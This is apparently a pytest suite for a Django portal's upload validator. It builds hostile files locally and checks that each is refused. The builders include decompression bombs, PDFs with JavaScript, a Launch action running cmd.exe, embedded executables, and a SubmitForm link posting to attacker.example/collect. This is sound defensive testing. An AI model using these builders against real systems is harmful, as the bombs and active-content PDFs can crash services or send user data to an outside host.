"""Upload validation against a hostile corpus built here (nothing downloaded): files renamed to
pass as PDFs, polyglots, active content, encryption, damaged structure, decompression bombs, size
limits; and the submission page and download view around it."""

import hashlib
import io
import re
import struct
import time
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils.html import escape
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from authorities.constants import Instrument
from requests_app.models import Attachment, LegalRequest
from requests_app.receipts import receipts_issue_all_due
from requests_app.uploads import check_upload
from tests.conftest import verified_login
from tests.figures import record
from tests.requests_app.helpers import pdf_bytes, submit

MIB = 1 << 20
# A hang guard, not a benchmark: the checker's own limits stop a hostile file well before this.
HANG_GUARD_SECONDS = 10


# Building blocks ---------------------------------------------------------------------------------


def saved(pdf: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def blank_pdf(pages: int = 1) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page()
    return pdf


def javascript(code: str = "app.alert('pwned')") -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def image_bytes(image_format: str, size: tuple[int, int] = (64, 48)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, image_format)
    return out.getvalue()


def zlib_zeros(size: int) -> bytes:
    """zlib data inflating to `size` zero bytes, built in milliseconds: after a full flush the
    compressor starts afresh, so every further MiB of zeros compresses to the same bytes."""
    assert size >= MIB
    blocks, rest = divmod(size, MIB)
    compressor = zlib.compressobj(9)
    first = compressor.compress(bytes(MIB)) + compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(bytes(MIB)) + compressor.flush(zlib.Z_FULL_FLUSH)
    last = compressor.compress(bytes(rest)) + compressor.flush()
    # Adler-32 of zeros: the byte sum stays 1 and the sum of sums is the length.
    adler = ((size % 65521) << 16) | 1
    return first + again * (blocks - 1) + last[:-4] + adler.to_bytes(4, "big")


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def raw_pdf(
    objects: list[bytes],
    *,
    offsets: list[int] | None = None,
    trailer: bytes = b"",
    startxref: int | None = None,
) -> bytes:
    """A PDF written byte by byte, so its cross-reference table can lie. `objects` are the
    bodies of objects 1..n (1 is the catalog); b"SELF" in `trailer` becomes the xref's offset."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    real_offsets = []
    for number, body in enumerate(objects, 1):
        real_offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets or real_offsets:
        out += b"%010d 00000 n \n" % offset
    trailer = trailer.replace(b"SELF", b"%d" % xref)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\n" % (len(objects) + 1, trailer)
    out += b"startxref\n%d\n%%%%EOF\n" % (xref if startxref is None else startxref)
    return bytes(out)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>"


# The hostile corpus: each builder returns the bytes of one file -------------------------------


def html_page() -> bytes:
    return b"<!DOCTYPE html><html><body><script>fetch('/api/requests')</script></body></html>"


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("order.pdf.exe", b"MZ" + bytes(200))
    return out.getvalue()


def windows_program() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(48) + b"PE\x00\x00"


def linux_program() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + bytes(56)


def svg_with_script() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'


def pdf_then_zip() -> bytes:
    return pdf_bytes() + zip_archive()


def pdf_with_html_inside() -> bytes:
    pdf = blank_pdf()
    pdf.docinfo[Name.Title] = String("<html><script>alert(document.domain)</script></html>")
    return saved(pdf)


def pdf_with_javascript_in_names() -> bytes:
    pdf = blank_pdf()
    action = pdf.make_indirect(javascript())
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), action])))
    return saved(pdf)


def pdf_with_javascript_open_action() -> bytes:
    pdf = blank_pdf()
    pdf.Root.OpenAction = javascript()
    return saved(pdf)


def pdf_with_javascript_in_object_stream() -> bytes:
    pdf = blank_pdf()
    pdf.Root.OpenAction = pdf.make_indirect(javascript())
    return saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_with_obfuscated_javascript_name() -> bytes:
    # /Java#53cript is /JavaScript written with a hex escape, as malware droppers do.
    catalog = (
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Java#53cript /J#53 (app.alert(1)) >> >>"
    )
    return raw_pdf([catalog, PAGES, PAGE])


def pdf_with_launch_action() -> bytes:
    pdf = blank_pdf()
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F=String("cmd.exe"), NewWindow=True)
    return saved(pdf)


def pdf_with_embedded_files() -> bytes:
    pdf = blank_pdf()
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, windows_program())
    return saved(pdf)


def pdf_with_file_attachment_annotation() -> bytes:
    # An embedded file reachable from a page annotation only, not from the catalog's /Names.
    pdf = blank_pdf()
    spec = pikepdf.AttachedFileSpec(pdf, windows_program(), filename="invoice.exe")
    annotation = Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([10, 10, 30, 30]), FS=spec.obj
    )
    pdf.pages[0].Annots = Array([pdf.make_indirect(annotation)])
    return saved(pdf)


def pdf_with_additional_actions() -> bytes:
    pdf = blank_pdf()
    pdf.pages[0].AA = Dictionary(O=javascript(), C=javascript("this.exportDataObject()"))
    return saved(pdf)


def pdf_with_submit_form_link() -> bytes:
    pdf = blank_pdf()
    submit_form = Dictionary(S=Name.SubmitForm, F=String("https://attacker.example/collect"))
    link = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 595, 842]), A=submit_form
    )
    pdf.pages[0].Annots = Array([pdf.make_indirect(link)])
    return saved(pdf)


def pdf_with_xfa_form() -> bytes:
    pdf = blank_pdf()
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=xfa)
    return saved(pdf)


def encrypted_pdf() -> bytes:
    return saved(blank_pdf(), encryption=pikepdf.Encryption(owner="owner-secret", user="1234"))


def owner_password_only_pdf() -> bytes:
    # Opens without a password in every reader, but is encrypted all the same.
    return saved(blank_pdf(), encryption=pikepdf.Encryption(owner="owner-secret", user=""))


def truncated_pdf() -> bytes:
    whole = saved(blank_pdf(3))
    return whole[: len(whole) // 2]


def pdf_with_wrong_xref_offsets() -> bytes:
    return raw_pdf([CATALOG, PAGES, PAGE], offsets=[400, 500, 600])


def pdf_with_xref_prev_pointing_to_itself() -> bytes:
    return raw_pdf([CATALOG, PAGES, PAGE], trailer=b"/Prev SELF")


def pdf_with_startxref_into_nowhere() -> bytes:
    return raw_pdf([CATALOG, PAGES, PAGE], startxref=3)


def pdf_whose_page_tree_contains_itself() -> bytes:
    return raw_pdf([CATALOG, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"])


def pdf_whose_page_tree_loops_through_a_child() -> bytes:
    child = b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 4 0 R] /Count 1 >>"
    return raw_pdf([CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", child, PAGE])


def pdf_without_pages() -> bytes:
    return raw_pdf([CATALOG, b"<< /Type /Pages /Kids [] /Count 0 >>"])


def pdf_with_501_pages() -> bytes:
    return saved(blank_pdf(501))


def pdf_flate_bomb() -> bytes:
    # 1 GiB of zeros as a page's content stream, about 1 MB in the file.
    pdf = blank_pdf()
    pdf.pages[0].Contents = pikepdf.Stream(pdf, zlib_zeros(1024 * MIB), Filter=Name.FlateDecode)
    return saved(pdf, compress_streams=False)


def pdf_double_flate_bomb() -> bytes:
    # The same gigabyte deflated twice: a few kilobytes in the file.
    pdf = blank_pdf()
    twice = zlib.compress(zlib_zeros(1024 * MIB), 9)
    filters = Array([Name.FlateDecode, Name.FlateDecode])
    pdf.pages[0].Contents = pikepdf.Stream(pdf, twice, Filter=filters)
    return saved(pdf, compress_streams=False)  # else qpdf rewrites the pair as one FlateDecode


def pdf_with_many_moderate_bombs() -> bytes:
    # No stream is huge on its own; together they inflate to 768 MiB.
    pdf = blank_pdf()
    deflated = zlib_zeros(96 * MIB)
    pdf.pages[0].Contents = Array(
        [pikepdf.Stream(pdf, deflated, Filter=Name.FlateDecode) for _ in range(8)]
    )
    return saved(pdf, compress_streams=False)


def png_bomb() -> bytes:
    # 30000 x 30000 one-bit pixels (900 megapixels) in about 110 kB.
    side = 30_000
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    rows = zlib_zeros(side * (1 + side // 8))  # each row: a filter byte, then the pixels
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", rows)
        + png_chunk(b"IEND", b"")
    )


def png_with_text_bomb() -> bytes:
    # A small image whose compressed text chunk inflates to 64 MiB.
    image = image_bytes("PNG")
    text = png_chunk(b"zTXt", b"Comment\x00\x00" + zlib_zeros(64 * MIB))
    after_header = 8 + 25  # signature, then the IHDR chunk
    return image[:after_header] + text + image[after_header:]


def jpeg_claiming_huge_dimensions() -> bytes:
    image = bytearray(image_bytes("JPEG"))
    frame = image.index(b"\xff\xc0")  # start of frame: length, precision, height, width
    image[frame + 5 : frame + 9] = struct.pack(">HH", 65_000, 65_000)
    return bytes(image)


def truncated_png() -> bytes:
    whole = image_bytes("PNG", (600, 400))
    return whole[: len(whole) // 2]


def renamed_pdf() -> bytes:
    return pdf_bytes()


def renamed_jpeg() -> bytes:
    return image_bytes("JPEG")


def empty_file() -> bytes:
    return b""


HOSTILE: list = [
    # (file name, builder, what the refusal must say)
    ("order.pdf", html_page, "is a web page or script, not a PDF, PNG or JPEG"),
    ("order.pdf", zip_archive, "is a ZIP archive (or Office document), not a PDF"),
    ("order.pdf", windows_program, "is a Windows program, not a PDF"),
    ("order.pdf", linux_program, "is a Linux program, not a PDF"),
    ("stamp.png", svg_with_script, "is a web page or script, not a PDF"),
    ("scan.png", renamed_pdf, "is named like .png but its content is PDF"),
    ("order", renamed_pdf, "is named like a file without extension but its content is PDF"),
    ("order.pdf", renamed_jpeg, "is named like .pdf but its content is JPEG"),
    ("order.pdf", pdf_then_zip, "is also a ZIP archive (a polyglot file)"),
    ("order.pdf", pdf_with_html_inside, "also contains a web page or script (a polyglot file)"),
    ("order.pdf", pdf_with_javascript_in_names, "contains active content (J"),
    ("order.pdf", pdf_with_javascript_open_action, "contains active content (JS)"),
    ("order.pdf", pdf_with_javascript_in_object_stream, "contains active content (JS)"),
    ("order.pdf", pdf_with_obfuscated_javascript_name, "contains active content (JS)"),
    ("order.pdf", pdf_with_launch_action, "contains active content (Launch action)"),
    ("order.pdf", pdf_with_embedded_files, "contains active content (EmbeddedFile"),
    ("order.pdf", pdf_with_file_attachment_annotation, "contains active content (EmbeddedFile)"),
    ("order.pdf", pdf_with_additional_actions, "contains active content (JS)"),
    ("order.pdf", pdf_with_submit_form_link, "contains active content (SubmitForm action)"),
    ("order.pdf", pdf_with_xfa_form, "contains active content (XFA)"),
    ("order.pdf", encrypted_pdf, "is encrypted: upload it without a password"),
    ("order.pdf", owner_password_only_pdf, "is encrypted: upload it without a password"),
    ("order.pdf", truncated_pdf, "is damaged or not a valid PDF"),
    ("order.pdf", pdf_with_wrong_xref_offsets, "is damaged or not a valid PDF"),
    ("order.pdf", pdf_with_xref_prev_pointing_to_itself, "is damaged or not a valid PDF"),
    ("order.pdf", pdf_with_startxref_into_nowhere, "is damaged or not a valid PDF"),
    ("order.pdf", pdf_whose_page_tree_contains_itself, "is damaged or not a valid PDF"),
    ("order.pdf", pdf_whose_page_tree_loops_through_a_child, "is damaged or not a valid PDF"),
    ("order.pdf", pdf_without_pages, "has no pages"),
    ("order.pdf", pdf_with_501_pages, "has 501 pages; the limit is 500"),
    ("order.pdf", pdf_flate_bomb, "(a decompression bomb)"),
    ("order.pdf", pdf_double_flate_bomb, "(a decompression bomb)"),
    ("order.pdf", pdf_with_many_moderate_bombs, "decompresses to more than 512 MB"),
    ("scan.png", png_bomb, "is too large an image (decompression bomb)"),
    ("scan.png", png_with_text_bomb, "is damaged or not a valid image"),
    ("scan.jpg", jpeg_claiming_huge_dimensions, "is too large an image (decompression bomb)"),
    ("scan.png", truncated_png, "is damaged or not a valid image"),
    ("order.pdf", empty_file, "is empty"),
]


def refusal(upload: SimpleUploadedFile) -> tuple[str, float]:
    """The refusal message of an upload and how long the check took."""
    started = time.monotonic()
    with pytest.raises(ValidationError) as refused:
        check_upload(upload)
    return " ".join(refused.value.messages), time.monotonic() - started


# Accepted files ----------------------------------------------------------------------------------


def test_one_page_pdf_is_accepted_with_its_pages_digest_and_detected_type():
    content = pdf_bytes()

    checked = check_upload(SimpleUploadedFile("order.pdf", content, "text/html"))

    assert checked.kind == "pdf"
    assert checked.content_type == "application/pdf"
    assert checked.pages == 1
    assert checked.sha256 == hashlib.sha256(content).hexdigest()
    assert checked.size == len(content)


@pytest.mark.parametrize(
    ("name", "image_format", "content_type"),
    [
        ("scan.png", "PNG", "image/png"),
        ("scan.jpg", "JPEG", "image/jpeg"),
        ("SCAN.JPEG", "JPEG", "image/jpeg"),
    ],
)
def test_png_and_jpeg_are_accepted(name, image_format, content_type):
    checked = check_upload(SimpleUploadedFile(name, image_bytes(image_format)))

    assert checked.content_type == content_type


def test_pdf_of_500_pages_is_accepted():
    assert check_upload(SimpleUploadedFile("order.pdf", saved(blank_pdf(500)))).pages == 500


def test_pdf_whose_content_inflates_to_a_few_megabytes_is_accepted():
    # The bomb builder makes real zlib data; a moderately compressed stream is no bomb.
    deflated = zlib_zeros(3 * MIB + 5)
    assert zlib.decompress(deflated) == bytes(3 * MIB + 5)
    pdf = blank_pdf()
    pdf.pages[0].Contents = pikepdf.Stream(pdf, deflated, Filter=Name.FlateDecode)

    assert check_upload(SimpleUploadedFile("order.pdf", saved(pdf))).pages == 1


def test_hand_written_pdf_is_accepted_so_its_broken_variants_fail_for_their_defect():
    assert check_upload(SimpleUploadedFile("order.pdf", raw_pdf([CATALOG, PAGES, PAGE]))).pages == 1


# Refused files -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "build", "reason"),
    [pytest.param(name, build, reason, id=build.__name__) for name, build, reason in HOSTILE],
)
@pytest.mark.figure("hostile upload")
def test_hostile_file_is_refused_quickly_with_its_name_and_reason(
    name: str, build: Callable[[], bytes], reason: str
):
    message, seconds = refusal(SimpleUploadedFile(name, build()))

    assert message.startswith(f"{name} ")
    assert reason in message
    assert seconds < HANG_GUARD_SECONDS
    record("hostile upload", (seconds, build.__name__))


@pytest.mark.figure("hostile upload")
def test_file_over_the_size_limit_is_refused(settings):
    settings.PORTAL_MAX_UPLOAD_BYTES = MIB
    padded = blank_pdf()
    padded.pages[0].Contents = pikepdf.Stream(padded, bytes(MIB))

    message, seconds = refusal(
        SimpleUploadedFile("order.pdf", saved(padded, compress_streams=False))
    )

    assert message == "order.pdf is larger than the 1 MB limit for one document."
    assert seconds < HANG_GUARD_SECONDS
    record("hostile upload", (seconds, "over the size limit"))


# Through the pages -------------------------------------------------------------------------------


@pytest.fixture
def private_media(settings, tmp_path) -> Path:
    settings.PRIVATE_MEDIA_ROOT = settings.MEDIA_ROOT = tmp_path / "private"
    return settings.PRIVATE_MEDIA_ROOT


def stored_files(root: Path) -> list[Path]:
    return [path for path in root.rglob("*") if path.is_file()]


@pytest.mark.django_db
def test_renamed_file_is_refused_next_to_the_documents_field_and_nothing_is_saved(
    client, officer, private_media
):
    verified_login(client, officer)

    response = submit(
        client, Instrument.EPOC, documents=[SimpleUploadedFile("order.pdf", zip_archive())]
    )

    assert response.status_code == 200
    # Said once, in the summary at the top, linked to the documents field (issue 17).
    documents_row = " ".join(
        re.findall(r'<li id="problem-\d+"><a href="#id_documents">.*?</li>', response.text)
    )
    assert (
        escape("order.pdf is a ZIP archive (or Office document), not a PDF, PNG or JPEG.")
        in documents_row
    )
    assert not LegalRequest.objects.exists()
    assert not Attachment.objects.exists()
    assert stored_files(private_media) == []


@pytest.mark.django_db
def test_each_hostile_document_of_a_submission_is_named_in_the_refusal(
    client, officer, private_media
):
    verified_login(client, officer)
    documents = {
        "renamed.pdf": windows_program(),
        "polyglot.pdf": pdf_then_zip(),
        "scripted.pdf": pdf_with_javascript_open_action(),
        "locked.pdf": encrypted_pdf(),
        "cut.pdf": truncated_pdf(),
        "bomb.pdf": pdf_flate_bomb(),
    }

    response = submit(
        client, Instrument.EPOC, documents=[SimpleUploadedFile(n, c) for n, c in documents.items()]
    )

    assert response.status_code == 200
    errors = response.context["form"].errors["documents"]
    assert sorted(error.split(" ")[0] for error in errors) == sorted(documents)
    assert not LegalRequest.objects.exists()
    assert not Attachment.objects.exists()
    assert stored_files(private_media) == []


@pytest.mark.django_db
def test_valid_pdf_is_stored_under_a_random_name_and_downloaded_as_an_attachment(
    client, officer, outsider, private_media
):
    verified_login(client, officer)
    content = pdf_bytes()

    # The browser's claimed type is ignored: the type is decided by content.
    upload = SimpleUploadedFile("ordre-signé-2026-0042.pdf", content, "text/html")
    response = submit(client, Instrument.EPOC, documents=[upload])

    assert response.status_code == 302
    attachment = Attachment.objects.get()
    stored = Path(attachment.file.path)
    assert stored.is_relative_to(private_media)
    assert re.fullmatch(r"[0-9a-f]{32}", stored.name)  # random, nothing from the uploader
    # Encrypted at rest (requests_app/custody.py; tests/requests_app/test_custody.py).
    assert stored.read_bytes()[:4] == b"PCE1" and content not in stored.read_bytes()
    # Beside it, only the request's sealed receipt (requests_app/receipts.py), once sealed.
    receipts_issue_all_due()
    receipt = Path(attachment.request.receipt.file.path)
    assert sorted(stored_files(private_media)) == sorted([stored, receipt])
    url = reverse("requests:attachment", args=[attachment.request.public_id, attachment.public_id])

    download = client.get(url)

    assert download.status_code == 200
    assert download["Content-Type"] == "application/pdf"
    assert download["Content-Disposition"].startswith("attachment;")
    assert "ordre-sign" in download["Content-Disposition"]
    assert download["X-Content-Type-Options"] == "nosniff"
    assert b"".join(download.streaming_content) == content
    assert verified_login(Client(), outsider).get(url).status_code == 404
